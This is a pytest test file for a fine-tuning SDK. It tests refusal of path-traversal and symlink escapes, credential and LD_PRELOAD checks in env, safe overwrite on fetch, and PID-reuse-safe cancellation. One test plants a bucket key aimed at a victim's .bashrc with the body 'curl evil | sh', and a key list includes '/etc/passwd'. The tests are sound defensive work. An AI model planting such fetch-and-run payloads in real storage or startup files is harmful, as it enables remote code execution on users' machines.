"""Safe by default (issue 23, first part): nothing read from a store writes outside its folder, `--force` replaces
only a previous fetch, credentials never go in `env`, and bad input is one line with exit 2."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

import sdk
from sdk.core.errors import StoreError
from sdk.store import contained, open_store

ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize("key", ["/etc/passwd", "../x", "a/../../x", "a//etc/passwd", "a\\..\\x", "", ".", "a/./../.."])
def test_keys_that_would_escape_are_refused(tmp_path, key):
    with pytest.raises(StoreError, match="refusing"):
        contained(tmp_path, key)


def test_keys_inside_are_placed_inside(tmp_path):
    assert contained(tmp_path, "a/b.txt") == (tmp_path / "a" / "b.txt").resolve()
    assert contained(tmp_path, "a/b/") == (tmp_path / "a" / "b").resolve()


def test_a_symlink_in_a_local_store_does_not_lead_out(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("private")
    store_root = tmp_path / "store"
    (store_root / "run").mkdir(parents=True)
    (store_root / "run" / "metrics.jsonl").symlink_to(outside / "secret")
    (store_root / "run" / "logs").symlink_to(outside, target_is_directory=True)
    store = open_store(str(store_root))
    with pytest.raises(StoreError, match="outside"):
        store.get_bytes("run/metrics.jsonl")
    with pytest.raises(StoreError, match="outside"):
        store.put_bytes("run/logs/secret", b"overwritten")
    assert (outside / "secret").read_text() == "private"


def _planted_run(store_uri: str, keys: dict[str, bytes]) -> sdk.Run:
    from sdk.store.runfolder import SPEC, RunFolder

    folder = RunFolder(open_store(store_uri), "r1")
    folder.write_json(SPEC, sdk.FineTuneSpec(model="tiny:llama", data="builtin:news-topics", output=store_uri).model_dump(mode="json"))
    folder.write_status("succeeded")
    for key, data in keys.items():
        folder.store.put_bytes(key, data)
    return sdk.Run(folder.uri)


def test_fetch_all_refuses_a_key_planted_to_write_outside_dest(s3_env, tmp_path):
    """A key `runs/r1//<absolute path>` in a shared bucket: joined naively it wrote to that absolute path."""
    import boto3

    env, bucket = s3_env
    target = tmp_path / "victim" / ".bashrc"
    run = _planted_run(f"s3://{bucket}/runs", {})
    client = boto3.session.Session().client("s3", endpoint_url=env["AWS_ENDPOINT_URL"])
    client.put_object(Bucket=bucket, Key=f"runs/r1/{target}", Body=b"curl evil | sh")  # '/r1/' + '/tmp/...'
    assert any("//" in o["Key"] for o in client.list_objects_v2(Bucket=bucket, Prefix="runs/r1/")["Contents"])
    dest = tmp_path / "fetched"
    with pytest.raises(StoreError, match="refusing"):
        run.fetch(dest)
    assert not target.exists() and not dest.exists()  # nothing written, no half-fetched folder
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".fetched.partial")]


def test_force_replaces_only_a_previous_fetch(tmp_path, monkeypatch, run_cli):
    run = _planted_run(str(tmp_path / "store"), {"r1/metrics.jsonl": b'{"step": 1, "loss": 1.0}\n'})
    first = run.fetch(tmp_path / "copy")
    assert (first / "spec.json").is_file()
    assert run.fetch(tmp_path / "copy", overwrite=True) == first  # a previous fetch: replaced
    live = tmp_path / "store" / "r1"  # a run folder in a local store holds spec.json and MANIFEST.json files too
    with pytest.raises(StoreError, match="not a previous fetch"):
        run.fetch(live, overwrite=True)
    assert (live / "spec.json").is_file()
    mine = tmp_path / "my-project"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    with pytest.raises(StoreError, match="not a previous fetch"):
        run.fetch(mine, overwrite=True)
    assert (mine / "notes.txt").read_text() == "keep me"
    monkeypatch.chdir(mine)
    with pytest.raises(StoreError, match="current or home directory"):
        run.fetch(".", overwrite=True)
    with pytest.raises(StoreError, match="current or home directory"):
        run.fetch(tmp_path, overwrite=True)  # a parent of the current directory
    result = run_cli("fetch", str(run.uri), str(mine), "--all", "--force", env={"FINETUNE_HOME": str(tmp_path / "home")})
    assert result.returncode != 0 and "Traceback" not in result.stderr and (mine / "notes.txt").is_file()


@pytest.mark.parametrize("name", ["HF_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "GCP_CREDENTIALS"])
def test_a_credential_in_env_is_refused_with_a_pointer_to_secrets(name, cli_here, tmp_path):
    result = cli_here("launch", "tiny", "--local", "--dry-run", f"--set=env.{name}=abc123", env={"FINETUNE_HOME": str(tmp_path)})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{name} looks like a credential" in result.stderr and f"secrets: [{name}]" in result.stderr
    assert "abc123" not in result.stdout + result.stderr  # the value is not echoed back either


@pytest.mark.parametrize("setting,message", [
    ("env.LD_PRELOAD=/tmp/x.so", "LD_PRELOAD changes how every process"),
    ("env.PATH=/tmp", "PATH changes how every process"),
    ("output=s3://bkt/../x", "'.' and '..' are not folders"),
])
def test_bad_spec_values_are_one_line_errors(setting, message, cli_here, tmp_path):
    result = cli_here("launch", "tiny", "--local", "--dry-run", f"--set={setting}", env={"FINETUNE_HOME": str(tmp_path)})
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("port", ["99999", "0", "-1"])
def test_a_port_out_of_range_is_refused_at_once(port, cli_here, tmp_path):
    result = cli_here("serve", "tiny", "--dry-run", "--port", port, env={"FINETUNE_HOME": str(tmp_path)})
    assert result.returncode == 2 and "--port" in result.stderr and "Traceback" not in result.stderr


@pytest.fixture
def stranger():
    """A process that is not ours: a stand-in for whatever inherited a finished run's PID. Stopped by PID."""
    proc = subprocess.Popen(["sleep", "120"], start_new_session=True)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait(timeout=10)


def _running_folder(tmp_path):
    from sdk.store.runfolder import RunFolder

    folder = RunFolder(open_store(str(tmp_path / "store")), "r1")
    folder.write_status("running")
    return folder


def test_cancel_never_signals_a_process_that_inherited_the_pid(tmp_path, stranger):
    from sdk.backends.local import LocalBackend, LocalRunInfo
    from sdk.machine.processes import identify

    who = identify(stranger.pid)
    reused = LocalRunInfo(pid=stranger.pid, log=str(tmp_path / "log"), host=os.uname().nodename,
                          started=who["started"] - 1, boot=who["boot"])  # same number, another process
    folder = _running_folder(tmp_path)
    LocalBackend().cancel(folder, reused, grace=1)
    assert stranger.poll() is None and folder.status()["state"] == "cancelled"


def test_cancel_of_a_finished_run_signals_nobody(tmp_path, stranger):
    from sdk.backends.local import LocalBackend, LocalRunInfo
    from sdk.machine.processes import identify

    who = identify(stranger.pid)  # even the very same process: the run ended, its PID is not the run's any more
    info = LocalRunInfo(pid=stranger.pid, log=str(tmp_path / "log"), host=os.uname().nodename, **{k: who[k] for k in ("started", "boot")})
    folder = _running_folder(tmp_path)
    folder.write_status("succeeded")
    LocalBackend().cancel(folder, info, grace=1)
    assert stranger.poll() is None and folder.status()["state"] == "succeeded"


def test_a_recorded_process_is_recognised_and_stopped(tmp_path):
    from sdk.backends.local import LocalBackend, LocalRunInfo
    from sdk.machine.processes import identify, is_same

    proc = subprocess.Popen(["sleep", "120"], start_new_session=True)
    try:
        who = identify(proc.pid)
        assert is_same(proc.pid, who["started"], who["boot"]) and not is_same(proc.pid, who["started"] + 1, who["boot"])
        info = LocalRunInfo(pid=proc.pid, log=str(tmp_path / "log"), host=os.uname().nodename, started=who["started"], boot=who["boot"])
        LocalBackend().cancel(_running_folder(tmp_path), info, grace=1)
        assert proc.wait(timeout=15) is not None
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=10)


# -- statuses that hold


def _folder_with(tmp_path, state: str, **extra):
    from sdk.store.runfolder import SPEC, RunFolder

    folder = RunFolder(open_store(str(tmp_path / "store")), "r1")
    folder.write_json(SPEC, sdk.FineTuneSpec(model="tiny:llama", data="builtin:news-topics").model_dump(mode="json"))
    folder.write_status(state, **extra)
    return folder


def test_a_cancel_reads_cancelling_until_the_node_confirms(tmp_path):
    folder = _folder_with(tmp_path, "running", step=5)
    run = sdk.Run(folder.uri)  # a client with no backend handle: only the folder
    assert run.cancel().state == "cancelling" and not run.status().done
    folder.write_status("cancelled")  # the node's last word
    assert run.status().state == "cancelled"


def test_a_cancel_of_a_node_that_already_died_reads_lost_not_cancelling_forever(tmp_path):
    import time as clock

    folder = _folder_with(tmp_path, "running", step=3, sync_interval=3.0)
    folder.write_json("status.json", {**folder.read_json("status.json"), "heartbeat": clock.time() - 3600})
    run = sdk.Run(folder.uri)
    assert run.cancel().state == "lost" and run.wait(progress=False, timeout=5).state == "lost"


def test_a_stored_spec_from_before_a_rule_still_loads(tmp_path):
    """Runs submitted before env names were checked stay readable (serve, status, resume); only new ones are held
    to the rule."""
    folder = _folder_with(tmp_path, "succeeded")
    folder.write_json("spec.json", {**folder.read_json("spec.json"), "env": {"HF_TOKEN": "old"}})
    assert sdk.Run(folder.uri).spec().env == {"HF_TOKEN": "old"}
    with pytest.raises(sdk.SpecError, match="looks like a credential"):
        sdk.submit(sdk.Run(folder.uri).spec())


def test_a_silent_heartbeat_reads_lost_with_the_last_step(tmp_path):
    import time as clock

    folder = _folder_with(tmp_path, "running", step=42, sync_interval=3.0)
    status = folder.read_json("status.json")
    folder.write_json("status.json", {**status, "heartbeat": clock.time() - 3600})
    read = sdk.Run(folder.uri).status()
    assert read.state == "lost" and read.done and "step 42" in read.error
    assert folder.read_json("status.json")["state"] == "running"  # reading writes nothing
    folder.write_json("status.json", {**status, "heartbeat": clock.time() - 30})  # recent: still running
    assert sdk.Run(folder.uri).status().state == "running"


@pytest.mark.slow
def test_a_node_killed_while_nobody_watches_reads_lost(tmp_path, finetune_home):
    """Submit, detach, SIGKILL the node's whole group; a fresh client that knows only the folder reads lost once the
    heartbeat has aged (aged here by moving it back, not by waiting out the threshold)."""
    import signal
    import time as clock

    from sdk.core.recipes import load_recipe
    from sdk.machine.processes import group_members

    run = sdk.submit(load_recipe("tiny", [f"output={tmp_path / 'runs'}", "train.max_steps=100000", "eval.before=false"]))
    deadline = clock.time() + 120
    while (run.status().step or 0) < 2 and clock.time() < deadline:
        clock.sleep(0.5)
    os.killpg(run.info.pid, signal.SIGKILL)
    deadline = clock.time() + 30
    while group_members(run.info.pid) and clock.time() < deadline:
        clock.sleep(0.2)
    stored = run.folder.read_json("status.json")
    assert stored["state"] == "running"  # the node never wrote its last word
    run.folder.write_json("status.json", {**stored, "heartbeat": stored["heartbeat"] - 3600})
    elsewhere = sdk.Run(run.uri)
    assert elsewhere.status().state == "lost" and elsewhere.wait(progress=False, timeout=5).state == "lost"


def test_a_backend_success_without_the_nodes_word_reads_failed(tmp_path):
    from sdk.backends.skypilot import SkyPilotBackend, SkyPilotRunInfo

    class Reports(SkyPilotBackend):
        def __init__(self, state):
            self.state = state

        def _sky_state(self, info):
            return self.state

    folder = _folder_with(tmp_path, "running")
    info = SkyPilotRunInfo(managed=False, cluster="ft-x", job_id=1)
    view = Reports("SUCCEEDED").status(folder, info)
    assert view.state == "failed" and "never wrote its final status" in view.error and "no adapter" in view.error
    folder.request_cancel()
    assert Reports("RUNNING").status(folder, info) is None  # still cancelling: keep asking
    assert Reports("CANCELLED").status(folder, info).state == "cancelled"


@pytest.mark.parametrize("tool", ["merge", "generate", "evaluate"])
def test_tools_refuse_a_run_that_did_not_succeed(tmp_path, tool):
    from sdk.runs import tools as node_tools

    folder = _folder_with(tmp_path, "failed", error="CUDA out of memory")
    call = {"merge": lambda: node_tools.merge(folder.uri, tmp_path / "out"),
            "generate": lambda: node_tools.generate(folder.uri, ["hi"]),
            "evaluate": lambda: node_tools.evaluate(folder.uri, data="x.jsonl")}[tool]
    with pytest.raises(sdk.FinetuneError, match="is failed: CUDA out of memory; .* needs a run that succeeded"):
        call()
    assert not (tmp_path / "out").exists()


def test_a_run_cancelled_before_its_node_starts_never_loads_the_model(tmp_path):
    """Cancelled while provisioning (or before a managed-job recovery): the node writes cancelled and stops."""
    import time as clock

    from helpers import run_node

    from sdk.core.recipes import load_recipe
    from sdk.store.runfolder import SPEC, RunFolder

    spec = load_recipe("tiny", [f"output={tmp_path}"])
    folder = RunFolder(open_store(str(tmp_path)), "r1")
    folder.write_json(SPEC, spec.model_dump(mode="json"))
    folder.write_status("pending")
    folder.request_cancel()
    start = clock.time()
    result, folder = run_node(spec, tmp_path)
    assert result.returncode == 130 and "cancelled before this node started" in result.stdout
    assert folder.read_json("status.json")["state"] == "cancelled" and not folder.metrics()
    assert clock.time() - start < 30  # no model loaded, no training


@pytest.mark.slow
def test_a_status_never_hangs_on_a_silent_skypilot_api_server(tmp_path):
    """An API server that accepts and never answers (slow, overloaded, half-dead): the status comes back within
    the bound, as the run folder's view, said to be one. In a process of its own: SkyPilot caches its API
    server's address per process, and this one must not leak into the tests that use the real one."""
    import socket
    import threading

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept_and_stay_silent() -> None:
        listener.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(listener.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept_and_stay_silent, daemon=True)
    thread.start()
    folder = _folder_with(tmp_path, "running", step=7)
    script = f"""
import time, sdk
import sky  # imported first: the bound is on the query, not on importing SkyPilot (seconds, once per process)
from sdk.backends.skypilot import SkyPilotRunInfo
run = sdk.Run({folder.uri!r}, backend="skypilot", info=SkyPilotRunInfo(managed=False, cluster="ft-x", job_id=1))
start = time.time()
status = run.status()
took = time.time() - start
assert took < 10, took
assert status.state == "running" and status.step == 7 and "did not answer within 3 s" in status.note, status
again = time.time()
assert run.status().state == "running" and time.time() - again < 2  # the stuck query is not asked twice
assert run.reconcile().state == "running"  # nothing written on a non-answer
print("ok", round(took, 1))
"""
    env = {**os.environ, "SKYPILOT_API_SERVER_ENDPOINT": f"http://127.0.0.1:{listener.getsockname()[1]}",
           "FINETUNE_BACKEND_TIMEOUT": "3"}
    try:
        done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, env=env, cwd=ROOT)
        assert done.returncode == 0 and done.stdout.startswith("ok"), done.stderr[-2000:]
    finally:
        stop.set()
        thread.join(timeout=5)
        for conn in held:
            conn.close()
        listener.close()


def test_a_forwarded_aws_session_that_ends_before_the_planned_run_is_warned_about(run_cli, tmp_path):
    from sdk.store.credentials import session_warning

    now = 1_800_000_000.0
    env = {"AWS_ACCESS_KEY_ID": "AKIA", "AWS_SECRET_ACCESS_KEY": "s", "AWS_SESSION_TOKEN": "t",
           "AWS_CREDENTIAL_EXPIRATION": "2027-01-15T08:30:00Z"}
    from datetime import datetime

    expires = datetime.fromisoformat("2027-01-15T08:30:00+00:00").timestamp()
    line = session_warning(hours=2.0, forwards_aws=True, environ=env, now=expires - 3600)
    assert line and "in 60 min" in line and "~2.0 h" in line and "adapter commit would fail" in line
    assert session_warning(hours=0.5, forwards_aws=True, environ=env, now=expires - 3600) is None  # 0.5 h x 1.25 fits
    assert "expired" in session_warning(hours=None, forwards_aws=True, environ=env, now=expires + 1)
    assert "length is unknown" in session_warning(hours=None, forwards_aws=True, environ=env, now=expires - 3600)
    assert session_warning(hours=None, forwards_aws=True, environ=env, now=expires - 13 * 3600) is None
    assert session_warning(hours=9.0, forwards_aws=False, environ=env, now=now) is None  # nothing forwarded
    assert session_warning(hours=9.0, forwards_aws=True, environ={**env, "AWS_SESSION_TOKEN": ""}, now=now) is None
    assert session_warning(hours=9.0, forwards_aws=True, environ={k: v for k, v in env.items()
                                                                  if k != "AWS_CREDENTIAL_EXPIRATION"}, now=now) is None
    # through the CLI: a dry run of a cloud recipe with a token that ends in five minutes
    from datetime import timezone

    soon = datetime.fromtimestamp(__import__("time").time() + 300, tz=timezone.utc).isoformat()
    rows = tmp_path / "rows.jsonl"
    rows.write_text('{"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "hello"}]}\n')
    out = run_cli("launch", "llama8b", "--dry-run", "--set", f"data.source={rows}", "--set", "train.max_steps=500",
                  env={**env, "AWS_CREDENTIAL_EXPIRATION": soon, "FINETUNE_HOME": str(tmp_path)})
    assert out.returncode == 0, out.stderr
    assert "warning: AWS_SESSION_TOKEN expires at" in out.stderr and "before the planned end" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr
